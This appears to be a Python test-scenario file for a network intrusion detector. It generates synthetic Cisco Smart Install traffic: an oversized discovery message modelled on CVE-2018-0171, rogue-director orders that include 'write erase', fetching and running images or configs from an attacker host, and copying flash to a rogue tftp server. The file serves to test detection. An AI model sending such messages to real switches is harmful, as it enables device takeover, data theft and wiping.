"""BW06: orders of an admin host, of a director that switches joined, messages that overflow, and a plain join."""

from __future__ import annotations

import struct

from bootwarden.scenarios.bw06_smart_install import both, command
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, HQ, ROGUE
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic.wire import Tcp, Wire

SWITCH = "10.0.1.7"


def discovery(length: int, sent: int) -> bytes:
    """A client's first message to its director, whose one field says that it has so many bytes."""
    return smi.message(7, struct.pack(">II", 1, length) + b"A" * sent)


@scenario("BW06", "malicious", **both(command(None), orders=((4, SWITCH),)))  # type: ignore[arg-type]
def bw06_overflow(wire: Wire) -> None:
    """A discovery message whose second field is far longer than a switch has room for (CVE-2018-0171)."""
    tcp = Tcp(wire, ROGUE, 50786, SWITCH, smi.PORT)
    tcp.send(smi.probe())
    tcp.reply(smi.probe_reply())
    first = struct.pack(">II", 2, 8) + bytes(8)
    tcp.send(smi.message(7, first + struct.pack(">II", 1, 0xC8) + b"A" * 2048, length=24), mss=536)
    tcp.reset()


JOINED = ("10.0.1.8", "10.0.1.9", "10.0.1.10", "10.0.1.11", "10.0.1.12")


ORDERED = (
    *(command(ATTACKER, file="x", device=switch) for switch in JOINED[:3]),
    *(command(None, device=switch) for switch in JOINED[3:]),
)


@scenario(
    "BW06",
    "malicious",
    raises=[("BW06", 5 + n, ATTACKER, switch) for n, switch in enumerate(JOINED)],
    plain=Expect(ORDERED),
    site=HQ,
    with_site=Expect(ORDERED),
)
def bw06_joined_a_rogue_director(wire: Wire) -> None:
    """Switches that join a director of the attacker's get their orders back; one runs another command than copy."""
    url = f"sftp://{ATTACKER}/x"
    commands = (smi.image(url), smi.config(url), smi.execute(url), smi.copy("write erase"), discovery(0x1D, 600))
    for switch, order in zip(JOINED, commands, strict=True):
        tcp = Tcp(wire, switch, 50786, ATTACKER, smi.PORT)
        tcp.send(discovery(0x1C, 0x1C))
        tcp.reply(order)
        tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_switch_joins(wire: Wire) -> None:
    """A new switch joins its director with a discovery message of the usual length, and both keep in touch."""
    tcp = Tcp(wire, SWITCH, 50786, ADMIN, smi.PORT)
    tcp.send(discovery(0x1C, 0x1C))
    tcp.send(smi.message(7, struct.pack(">II", 2, 64) + bytes(64)))
    tcp.reply(smi.probe())
    tcp.send(smi.probe_reply())
    for _ in range(3):
        wire.wait(30)
        tcp.send(smi.keepalive_reply())
        tcp.reply(smi.message(2, struct.pack(">III", 1, 0, 0)))
    tcp.close()


@scenario(
    "BW06",
    "malicious",
    raises=[
        ("BW06", 0, "10.0.9.10", "10.0.1.7"),
        ("BW06", 1, "10.0.9.10", "10.0.1.8"),
        ("BW06", 2, "10.0.9.10", "10.0.1.9"),
        ("BW06", 3, "10.0.9.10", "10.0.1.10"),
    ],
    raises_with_site=[
        ("BW06", 10, "10.0.9.10", "10.0.1.7"),
        ("BW06", 11, "10.0.9.10", "10.0.1.8"),
        ("BW06", 12, "10.0.9.10", "10.0.1.9"),
        ("BW06", 13, "10.0.9.10", "10.0.1.10"),
    ],
    plain=Expect(
        notices=(
            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
        )
    ),
)
def bw06_from_an_admin_host(wire: Wire) -> None:
    """From an admin host, switches are given every kind of order, each naming a rogue server."""
    url = f"tftp://{ROGUE}/x"
    for number, order in enumerate(
        (smi.image(url), smi.config(url), smi.execute(url), smi.copy(f"copy flash:a {url}"))
    ):
        tcp = Tcp(wire, ADMIN, 50786, f"10.0.1.{7 + number}", smi.PORT)
        tcp.send(order)
        tcp.close()
